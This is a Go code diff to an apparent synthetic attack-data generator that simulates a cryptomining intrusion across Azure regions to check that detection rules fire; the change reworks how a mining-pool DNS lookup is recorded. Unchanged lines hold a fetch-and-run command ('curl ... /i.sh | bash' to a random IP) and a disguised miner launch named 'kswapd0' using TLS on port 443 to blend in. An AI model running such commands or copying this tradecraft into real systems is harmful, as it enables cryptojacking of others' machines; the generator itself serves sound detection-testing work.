@@ -34,7 +34,7 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	// Over TLS on 443: in a flow log, a connection like any other.
 	ep := endpoint{host: pool, port: 443, ip: poolEndpoints[pool][0].ip}
 	script := "curl -fsSL http://" + fmt.Sprintf("45.%d.%d.%d", 9+g.r.IntN(80), g.r.IntN(256), 1+g.r.IntN(250)) + "/i.sh | bash"
-	now := at
+	now, resolved := at, false
 	for i, loc := range regions {
 		rid := t.rg(fmt.Sprintf("batch-%s", loc)) + "/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINESCALESETS/" + strings.ToUpper(fmt.Sprintf("render-%d", i))
 		net := g.attackNetwork(now, sp, "batch-"+loc, fmt.Sprintf("render-%d", i), loc)
@@ -46,7 +46,7 @@ func (g *gen) cpuMining(at time.Time) Attack {
 		host := fmt.Sprintf("render-%d%06d", i, g.r.IntN(30))
 		up := end.Add(3*time.Minute + g.jitter(3*time.Minute))
 		src := fmt.Sprintf("10.%d.1.%d", 50+i, 4+g.r.IntN(30))
-		g.dns(up, src, pool+".")
+		resolved = g.lookup(up, net, src, pool+".") || resolved
 		g.exec(up.Add(time.Second), host, 3100+g.r.IntN(500), 1, 0, []string{"/var/tmp/.cache/kswapd0", "-o", pool + ":443", "-u",
 			"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD", "--tls", "--cpu-priority", "5", "--donate-level", "0", "-B"})
 		a.extend(up.Add(time.Second))
@@ -55,8 +55,9 @@ func (g *gen) cpuMining(at time.Time) Attack {
 	}
 	a.MustFire = []string{
 		"azure.compute.mass_deployment", "azure.compute.multi_region_fanout", "azure.compute.new_region", "azure.compute.first_time_deployer",
-		"azure.dns.mining_pool_lookup", "azure.host.miner_process",
+		"azure.host.miner_process",
 	}
+	a.poolLookup(resolved)
 	a.poolFlow(ep)
 	return a
 }
